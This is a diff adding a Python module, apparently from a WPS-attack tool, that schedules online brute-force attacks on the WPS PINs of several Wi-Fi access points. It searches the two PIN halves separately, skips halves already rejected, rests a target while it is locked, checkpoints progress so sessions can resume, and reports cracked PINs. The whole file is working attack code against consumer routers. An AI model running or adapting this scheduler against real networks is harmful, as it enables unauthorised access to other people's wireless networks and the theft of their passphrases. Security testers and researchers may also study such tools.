@@ -0,0 +1,169 @@
+#!/usr/bin/env python3
+# -*- coding: utf-8 -*-
+
+import os
+import time
+
+from .wps import WPSpin
+from .pacing import AttemptPacer, AttemptOutcome
+from .checkpoint import Checkpointer
+from .utils import sigtermInterrupts, confirmRestore
+
+
+class ScheduledTarget:
+    """
+    Brute force progress against one AP of the scheduler: the session mask,
+    the pacing of the AP and the time it may be tried again
+    @mask — 4 characters while the first half is searched ('10000' once they are exhausted), 7 once it is known
+    """
+    def __init__(self, bssid, mask, tried, checkpoint, min_delay=0.0):
+        self.bssid = bssid.upper()
+        self.mask = mask
+        self.second_half = len(mask) == 7
+        self.tried = tried
+        self.checkpoint = checkpoint
+        self.pacer = AttemptPacer(min_delay=min_delay)
+        self.ready_at = 0.0
+        self.attempts = 0
+        self.pin = None   # Found PIN
+        self.done = False
+
+    def nextPin(self):
+        """Returns the PIN to try next, skipping the halves the AP has rejected before; None when exhausted"""
+        if not self.second_half and self.tried.firstHalf is not None:
+            print('[+] {}: first half {} is known'.format(self.bssid, self.tried.firstHalf))
+            self.mask = self.tried.firstHalf + '000'
+            self.second_half = True
+        if not self.second_half:
+            while int(self.mask) < 10000 and self.tried.isFirstHalfRejected(self.mask):
+                self.mask = str(int(self.mask) + 1).zfill(4)
+            if int(self.mask) >= 10000:
+                return None
+            t = int(self.mask + '000')
+        else:
+            while int(self.mask[4:]) < 1000 and self.tried.isSecondHalfRejected(self.mask[:4], self.mask[4:]):
+                self.mask = self.mask[:4] + str(int(self.mask[4:]) + 1).zfill(3)
+            if int(self.mask[4:]) >= 1000:
+                return None
+            t = int(self.mask)
+        self.checkpoint.update(self.mask)
+        return '{:07d}{}'.format(t, WPSpin.checksum(t))
+
+    def registerAnswer(self, status):
+        """Advances the mask after the AP answered the PIN; @status — ConnectionStatus of the attempt"""
+        if status.status == 'GOT_PSK' or status.last_m_message > 6:
+            self.done = True
+        elif not self.second_half:
+            if status.isFirstHalfValid():
+                print('[+] {}: first half found'.format(self.bssid))
+                # The second half 000 has just been tried with it
+                self.mask += '001'
+                self.second_half = True
+            else:
+                self.mask = str(int(self.mask) + 1).zfill(4)
+        else:
+            self.mask = self.mask[:4] + str(int(self.mask[4:]) + 1).zfill(3)
+        self.checkpoint.update(self.mask)
+
+    def progress(self):
+        if not self.second_half:
+            return int(self.mask) / 11000 * 100
+        return (10000 + int(self.mask[4:])) / 11000 * 100
+
+
+class BruteforceScheduler:
+    """
+    Interleaves online brute force attacks on several APs over one Companion:
+    every attempt goes to the target whose cooldown ends first, so the radio keeps
+    working while the others wait out their delays or locks
+    @delay — minimum delay between two attempts on the same AP, in seconds
+    """
+    def __init__(self, companion, bssids, delay=None, checkpoint_every=1, checkpoint_interval=10.0,
+                 fsync_interval=30.0, statistics_period=10):
+        self.companion = companion
+        self.bssids = list(dict.fromkeys(b.upper() for b in bssids))
+        self.delay = delay or 0
+        self.checkpoint_every = checkpoint_every
+        self.checkpoint_interval = checkpoint_interval
+        self.fsync_interval = fsync_interval
+        self.statistics_period = statistics_period
+        self.targets = []
+
+    def __sessionFile(self, bssid):
+        return self.companion.sessions_dir + '{}.run'.format(bssid.replace(':', ''))
+
+    def __loadTargets(self, restore):
+        for bssid in self.bssids:
+            filename = self.__sessionFile(bssid)
+            mask = '0000'
+            if restore:
+                try:
+                    with open(filename, 'r') as file:
+                        mask = file.readline().strip() or mask
+                except FileNotFoundError:
+                    pass
+            checkpoint = Checkpointer(filename, self.checkpoint_every, self.checkpoint_interval, self.fsync_interval)
+            self.targets.append(ScheduledTarget(bssid, mask, self.companion.triedPins(bssid), checkpoint,
+                                                self.delay))
+
+    def __printStatistics(self, start, attempts):
+        elapsed = time.monotonic() - start
+        active = [t for t in self.targets if not t.done]
+        cooling = sum(1 for t in active if t.ready_at > time.monotonic())
+        print('[*] {} attempts in {:.0f} s ({:.0f} PINs/hour) on {} targets, {} cooling down'.format(
+            attempts, elapsed, attempts / elapsed * 3600 if elapsed else 0, len(active), cooling))
+        for t in active:
+            print('    {} {:.2f}% ({:.1f} s between attempts)'.format(t.bssid, t.progress(), t.pacer.delay))
+
+    def run(self):
+        """Runs until every target is cracked or exhausted; returns {BSSID: PIN} of the cracked ones"""
+        sessions = [b for b in self.bssids if os.path.isfile(self.__sessionFile(b))]
+        restore = bool(sessions) and confirmRestore('sessions of {} targets'.format(len(sessions)))
+        self.__loadTargets(restore)
+        start = time.monotonic()
+        attempts = 0
+        with sigtermInterrupts():
+            try:
+                while True:
+                    active = [t for t in self.targets if not t.done]
+                    if not active:
+                        break
+                    target = min(active, key=lambda t: t.ready_at)
+                    pin = target.nextPin()
+                    if pin is None:
+                        print('[-] {}: PIN not found'.format(target.bssid))
+                        target.done = True
+                        continue
+                    wait = target.ready_at - time.monotonic()
+                    if wait > 0:
+                        if wait >= 1:
+                            print('[*] All targets are cooling down, next attempt on {} in {:.0f} seconds'.format(
+                                target.bssid, wait))
+                        time.sleep(wait)
+                    print('[*] {}: trying PIN {}'.format(target.bssid, pin))
+                    attempt_start = time.monotonic()
+                    outcome = self.companion.bruteforceAttempt(target.bssid, pin)
+                    now = time.monotonic()
+                    delay = target.pacer.update(outcome, now - attempt_start)
+                    target.ready_at = now + delay
+                    target.attempts += 1
+                    attempts += 1
+                    if outcome == AttemptOutcome.RESPONSE:
+                        target.registerAnswer(self.companion.connection_status)
+                        if target.done:
+                            target.pin = pin
+                            print('[+] {}: WPS PIN {}'.format(target.bssid, pin))
+                    elif outcome == AttemptOutcome.LOCKED:
+                        print('[!] {} has locked WPS setup, resting it for {:.0f} seconds'.format(target.bssid, delay))
+                    else:
+                        print('[!] {}: WPS transaction failed, retrying the PIN in {:.1f} seconds'.format(
+                            target.bssid, delay))
+                    if attempts % self.statistics_period == 0:
+                        self.__printStatistics(start, attempts)
+            except KeyboardInterrupt:
+                print('\nAborting…')
+                print('[i] Sessions saved in {}'.format(self.companion.sessions_dir))
+            finally:
+                for target in self.targets:
+                    target.checkpoint.close()
+        return {t.bssid: t.pin for t in self.targets if t.pin}